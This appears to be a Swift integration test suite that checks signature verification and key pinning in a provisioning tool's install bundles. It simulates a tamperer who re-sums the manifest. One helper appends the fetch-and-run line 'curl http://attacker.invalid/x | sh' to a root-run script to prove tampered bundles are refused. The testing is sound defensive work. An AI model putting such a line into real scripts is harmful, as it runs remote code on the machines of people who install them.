import Foundation
import Testing

extension LabIntegration {
    /// `pv_bundle --sign` and pv_install's pinned key, with keys made by the openssl command line:
    /// what an attacker who re-sums a tampered manifest meets, and what an operator sees.
    @Suite struct BundleSigningIntegrationTests {
        static func openssl(_ args: [String]) throws {
            let r = try run("/usr/bin/openssl", args)
            #expect(r.status == 0, "openssl \(args): \(r.output)")
        }

        /// (private key, public key) in `dir`.
        static func keyPair(_ dir: String, _ name: String) throws -> (String, String) {
            try openssl(["genpkey", "-algorithm", "ed25519", "-out", "\(dir)/\(name).pem"])
            try openssl(["pkey", "-in", "\(dir)/\(name).pem", "-pubout", "-out", "\(dir)/\(name).pub"])
            return ("\(dir)/\(name).pem", "\(dir)/\(name).pub")
        }

        static func bundle(_ work: String, id: String, signedWith key: String?) throws -> String {
            let out = work + "/out-\(id)"
            try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            let r = try tool("pv_bundle", ["--id", "it-sign", "--config", work + "/etc/provision.conf", "--bin", Lab.binDir,
                                           "--templates", Lab.repo.path + "/Bundle", "--output", out] + (key.map { ["--sign", $0] } ?? []))
            #expect(r.status == 0, "\(r.output)")
            return out + "/setup-it-sign.tar"
        }

        /// The attack: extract, change what root will run (a wrapper; `change` may do more), re-sum
        /// every file in the manifest, re-pack (the signature, if any, is kept as it was).
        static func tampered(_ tar: String, _ work: String, change: (String) throws -> Void = { _ in }) throws -> (tar: String, dir: String) {
            let dir = try InstallIntegrationTests.extract(tar)
            let script = dir + "/libs/start_pv_dns.sh"
            try (try String(contentsOfFile: script, encoding: .utf8) + "\ncurl http://attacker.invalid/x | sh\n").write(toFile: script, atomically: true, encoding: .utf8)
            try change(dir)
            let sums = try String(contentsOfFile: dir + "/SHA256SUMS", encoding: .utf8).split(separator: "\n").map { line -> String in
                let path = String(line.split(separator: " ", maxSplits: 1)[1].dropFirst())
                let hash = try run("/usr/bin/sha256sum", [dir + "/" + path]).stdout.split(separator: " ").first.map(String.init) ?? ""
                return "\(hash)  \(path)"
            }
            try (sums.joined(separator: "\n") + "\n").write(toFile: dir + "/SHA256SUMS", atomically: true, encoding: .utf8)
            let names = try FileManager.default.contentsOfDirectory(atPath: dir)
            let out = work + "/tampered-\(UUID().uuidString.prefix(6)).tar"
            let r = try run("/bin/tar", ["-cf", out, "-C", dir] + names)
            #expect(r.status == 0, "\(r.output)")
            return (out, dir)
        }

        func install(_ tar: String, _ root: String, _ extra: [String] = []) throws -> RunResult {
            try tool("pv_install", ["--from-archive", tar, "--root", root, "-e", "create_dirs"] + extra, timeout: 120)
        }

        @Test func aPinnedKeyRefusesWhatItDidNotSign() throws {
            let work = try Lab.scratchRoot("signing", overriding: ["resource_id": "it-sign"])
            defer { try? FileManager.default.removeItem(atPath: work) }
            let (keyA, pubA) = try Self.keyPair(work, "a")
            let (keyB, pubB) = try Self.keyPair(work, "b")
            let root = work + "/root"
            let pin = root + "/system/etc/provision/bundle-signing.pub"
            let unsigned = try Self.bundle(work, id: "unsigned", signedWith: nil)

            // No key anywhere: it installs, and says that nothing vouched for it.
            var r = try install(unsigned, root)
            #expect(r.status == 0, "\(r.output)")
            #expect(r.stdout.contains("warning: the bundle is unverified: it carries no signature and no signing key is pinned"), "\(r.stdout)")

            // Signed with A, A trusted: verified, and A is pinned.
            let signedA = try Self.bundle(work, id: "a", signedWith: keyA)
            r = try install(signedA, root, ["--trust-key", pubA])
            #expect(r.status == 0, "\(r.output)")
            #expect(r.stdout.contains("bundle: signature verified (Ed25519 key sha256:"), "\(r.stdout)")
            #expect(r.stdout.contains("bundle: pinned sha256:"), "\(r.stdout)")
            #expect(try String(contentsOfFile: pin, encoding: .utf8) == (try String(contentsOfFile: pubA, encoding: .utf8)))
            // Root extracts what it runs where only root can change it, not into the agent's tree.
            let extracted = root + "/system/var/lib/provision/bundle"
            #expect(!FileManager.default.fileExists(atPath: root + "/bundle"))
            let installedScript = try String(contentsOfFile: extracted + "/libs/start_pv_dns.sh", encoding: .utf8)

            // From now on, without --trust-key: A's bundles pass ...
            r = try install(signedA, root)
            #expect(r.status == 0 && r.stdout.contains("signature verified"), "\(r.output)")
            // ... a re-summed, tampered one does not, and nothing of it lands ...
            let (tamperedTar, tamperedDir) = try Self.tampered(signedA, work)
            defer { try? FileManager.default.removeItem(atPath: tamperedDir) }
            r = try install(tamperedTar, root)
            #expect(r.status == 65, "\(r.output)")
            #expect(r.stderr.contains("the bundle's signature does not verify against the key pinned in \(pin)"), "\(r.stderr)")
            #expect(r.stderr.contains("its manifest was changed after signing, or another key signed it"))
            #expect(try String(contentsOfFile: extracted + "/libs/start_pv_dns.sh", encoding: .utf8) == installedScript)
            #expect(try FileManager.default.contentsOfDirectory(atPath: root + "/system/var/lib/provision").filter { $0.hasPrefix("bundle.") }.isEmpty,
                    "no partial extraction left")
            // ... nor an unsigned one, nor one signed by B.
            r = try install(unsigned, root)
            #expect(r.status == 65 && r.stderr.contains("the bundle carries no signature (SHA256SUMS.sig)"), "\(r.output)")
            let signedB = try Self.bundle(work, id: "b", signedWith: keyB)
            r = try install(signedB, root)
            #expect(r.status == 65 && r.stderr.contains("does not verify against the key pinned"), "\(r.output)")

            // The operator moves to B explicitly: B's bundle verifies and B replaces A.
            r = try install(signedB, root, ["--trust-key", pubB])
            #expect(r.status == 0, "\(r.output)")
            #expect(r.stdout.contains("bundle: replaced the pinned key with sha256:"), "\(r.stdout)")
            r = try install(signedA, root)
            #expect(r.status == 65, "A is no longer trusted: \(r.output)")

            // A private key given as the trusted key is refused, saying what to give.
            r = try install(signedB, root, ["--trust-key", keyB])
            #expect(r.status == 64 && r.stderr.contains("is not an Ed25519 public key (PEM)"), "\(r.output)")
        }

        /// A script inside the bundle cannot vouch for the bundle: on a server that pins a key, root's
        /// install_python3.sh hands over to the verifier an earlier install left in
        /// /usr/libexec/provision before anything else of the bundle runs, and refuses without it.
        /// A pin that another user could have written, or one reached through a link, counts for
        /// nothing: refused, with nothing run.
        @Test func onAPinnedServerRootRunsNothingOfTheBundleBeforeTheVerifierChecksIt() throws {
            let systemPin = "/etc/provision/bundle-signing.pub", verifierDirectory = "/usr/libexec/provision"
            for path in ["/etc/provision", verifierDirectory] where FileManager.default.fileExists(atPath: path) {
                Issue.record("\(path) exists on this machine: refusing to touch a real install"); return
            }
            let work = try Lab.scratchRoot("signing-entry", overriding: ["resource_id": "it-sign"])
            defer { try? FileManager.default.removeItem(atPath: work) }
            let (key, pub) = try Self.keyPair(work, "a")
            try FileManager.default.createDirectory(atPath: "/etc/provision", withIntermediateDirectories: false)
            defer { try? FileManager.default.removeItem(atPath: "/etc/provision") }
            try FileManager.default.copyItem(atPath: pub, toPath: systemPin)

            let signed = try Self.bundle(work, id: "a", signedWith: key)
            let good = try InstallIntegrationTests.extract(signed)
            defer { try? FileManager.default.removeItem(atPath: good) }
            // The attacker's pv_install would say anything: it leaves a mark, to prove it never runs.
            let marker = work + "/ran"
            let (_, tamperedDir) = try Self.tampered(signed, work) { dir in
                try "#!/bin/sh\ntouch \(marker)\necho PVOK\n".write(toFile: dir + "/bin/pv_install", atomically: true, encoding: .utf8)
            }
            defer { try? FileManager.default.removeItem(atPath: tamperedDir) }

            // No verifier on this server yet: refused, nothing of the bundle ran.
            var r = try run("/bin/bash", [tamperedDir + "/install_python3.sh", "--prepare-only"])
            #expect(r.status == 77, "\(r.output)")
            #expect(r.stdout.contains("this server pins a bundle signing key (\(systemPin)), but the verifier \(verifierDirectory)/pv_install is missing"), "\(r.stdout)")
            #expect(!FileManager.default.fileExists(atPath: marker))

            // The verifier in place (root's, as install_libs leaves it): the good bundle passes through it ...
            try FileManager.default.createDirectory(atPath: verifierDirectory, withIntermediateDirectories: false)
            defer { try? FileManager.default.removeItem(atPath: verifierDirectory) }
            try FileManager.default.copyItem(atPath: Lab.binDir + "/pv_install", toPath: verifierDirectory + "/pv_install")
            r = try run("/bin/bash", [good + "/install_python3.sh", "--prepare-only"])
            #expect(r.status == 0, "\(r.output)")
            #expect(r.stdout.contains("bundle: signature verified"), "\(r.stdout)")
            // PVOK means installed and verified: never after --prepare-only.
            #expect(!r.stdout.contains("PVOK") && r.stdout.split(separator: "\n").last?.hasPrefix("prepared: the tools are in") == true, "\(r.stdout)")
            // ... the tampered one is refused by it, and its pv_install never runs.
            r = try run("/bin/bash", [tamperedDir + "/install_python3.sh", "--prepare-only"])
            #expect(r.status == 65, "\(r.output)")
            #expect(r.stderr.contains("the bundle's signature does not verify against the key pinned in \(systemPin)"), "\(r.output)")
            #expect(!FileManager.default.fileExists(atPath: marker), "nothing from the tampered bundle ran")

            // A pin every user may write, or one through a link: refused before anything runs.
            chmod(systemPin, 0o666)
            r = try run("/bin/bash", [good + "/install_python3.sh", "--prepare-only"])
            #expect(r.status == 77, "\(r.output)")
            #expect(r.stdout.contains("refusing the pinned signing key \(systemPin): \(systemPin) is not root's alone"), "\(r.stdout)")
            #expect(!r.stdout.contains("signature verified"))
            try FileManager.default.removeItem(atPath: systemPin)
            try FileManager.default.createSymbolicLink(atPath: systemPin, withDestinationPath: pub)
            r = try run("/bin/bash", [good + "/install_python3.sh", "--prepare-only"])
            #expect(r.status == 77, "\(r.output)")
            #expect(r.stdout.contains("refusing the pinned signing key \(systemPin): \(systemPin) is a symbolic link"), "\(r.stdout)")
        }

        /// The trusted path for a later bundle: the verifier that install_libs leaves root's (here
        /// in the sandbox's system tree) reads the archive's manifest and signature and checks them
        /// against the pin before writing any of it; a bundle of another build is then carried on by
        /// that bundle's own pv_install.
        @Test func theVerifierChecksAnArchiveBeforeExtractingItAndHandsOverToTheBundlesPVInstall() throws {
            let work = try Lab.scratchRoot("verifier", overriding: ["resource_id": "it-sign"])
            defer { try? FileManager.default.removeItem(atPath: work) }
            let (key, pub) = try Self.keyPair(work, "a")
            let root = work + "/root"
            let signed = try Self.bundle(work, id: "a", signedWith: key)
            var r = try tool("pv_install", ["--from-archive", signed, "--root", root, "-e", "create_dirs,install_libs", "--trust-key", pub], timeout: 120)
            #expect(r.status == 0, "\(r.output)")
            let verifier = root + "/system/usr/libexec/provision/pv_install"
            let attributes = try FileManager.default.attributesOfItem(atPath: verifier)
            #expect(attributes[.ownerAccountID] as? Int == 0 && attributes[.posixPermissions] as? Int == 0o755, "\(attributes)")
            #expect(r.stdout.contains(verifier), "install_libs names it: \(r.stdout)")

            // Tampered: refused from the archive itself, nothing extracted.
            let extracted = root + "/system/var/lib/provision/bundle"
            try FileManager.default.removeItem(atPath: extracted)
            let (tamperedTar, tamperedDir) = try Self.tampered(signed, work)
            defer { try? FileManager.default.removeItem(atPath: tamperedDir) }
            r = try run(verifier, ["--from-archive", tamperedTar, "--root", root, "-e", "create_dirs"])
            #expect(r.status == 65, "\(r.output)")
            #expect(r.stderr.contains("does not verify against the key pinned"), "\(r.stderr)")
            #expect(!FileManager.default.fileExists(atPath: extracted), "nothing of the archive was written")

            // Another build's bundle (its pv_install differs): checked, then its own pv_install carries on.
            let newer = work + "/newer-bin"
            try FileManager.default.createDirectory(atPath: newer, withIntermediateDirectories: true)
            var bytes = try Data(contentsOf: URL(fileURLWithPath: Lab.binDir + "/pv_install"))
            bytes.append(contentsOf: Array("another build\n".utf8))
            #expect(FileManager.default.createFile(atPath: newer + "/pv_install", contents: bytes, attributes: [.posixPermissions: 0o755]))
            let out = work + "/out-newer"
            try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            r = try tool("pv_bundle", ["--id", "it-sign", "--config", work + "/etc/provision.conf", "--bin", newer,
                                       "--templates", Lab.repo.path + "/Bundle", "--output", out, "--sign", key])
            #expect(r.status == 0, "\(r.output)")
            r = try run(verifier, ["--from-archive", out + "/setup-it-sign.tar", "--root", root, "-e", "create_dirs"], timeout: 120)
            #expect(r.status == 0, "\(r.output)")
            #expect(r.stdout.contains("bundle: checked; its own pv_install (\(extracted)/bin/pv_install) carries on"), "\(r.stdout)")
            #expect(r.stdout.contains("create_dirs ... ok"), "\(r.stdout)")
        }
    }
}
